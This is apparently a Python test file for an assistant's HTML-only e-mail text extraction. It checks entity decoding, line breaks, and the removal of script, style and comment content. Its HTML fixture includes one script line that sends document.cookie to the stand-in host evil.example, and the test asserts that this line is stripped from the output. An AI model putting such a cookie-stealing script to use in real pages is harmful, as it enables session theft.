"""HTML-only e-mails become readable text: script and style contents dropped, entities decoded, blocks on lines."""

from __future__ import annotations

from assistant.text.files import extract_text

HTML = (
    "<html><head><title>Re: budget</title><style>p { color: red; }</style></head><body>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    "<p>Dana said the forecast is &ldquo;late again&rdquo; &amp; she&#8217;s fed&nbsp;up.</p>"
    "<!-- tracking: pixel 42 --><div>Q3 &lt; Q2 on margin.<br>Next: pricing review</div>"
    "<noscript>enable JavaScript</noscript><ul><li>one</li><li>two</li></ul></body></html>"
)


def _eml(html: str) -> bytes:
    return ("From: dana@example.com\nTo: cio@example.com\nSubject: budget\nMIME-Version: 1.0\n"
            "Content-Type: text/html; charset=utf-8\n\n" + html).encode()


def test_html_only_email_reads_as_text() -> None:
    text = extract_text("mail.eml", _eml(HTML))
    assert "Dana said the forecast is “late again” & she’s fed up." in text
    assert "Q3 < Q2 on margin.\nNext: pricing review" in text
    for hidden in ("color: red", "document.cookie", "evil.example", "tracking", "enable JavaScript", "Re: budget"):
        assert hidden not in text, hidden
    assert "&amp;" not in text and "&ldquo;" not in text and "<p>" not in text


def test_html_to_text_edge_cases() -> None:
    from assistant.text.html_text import html_to_text

    assert html_to_text("") == "" and html_to_text("<!-- only a comment -->") == ""
    assert html_to_text('<?xml version="1.0" encoding="utf-8"?><p>x &amp; y</p>') == "x & y"
    assert html_to_text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>") == "a b\n\nc"
    assert html_to_text("<p>unclosed <b>bold <i>and more") == "unclosed bold and more"
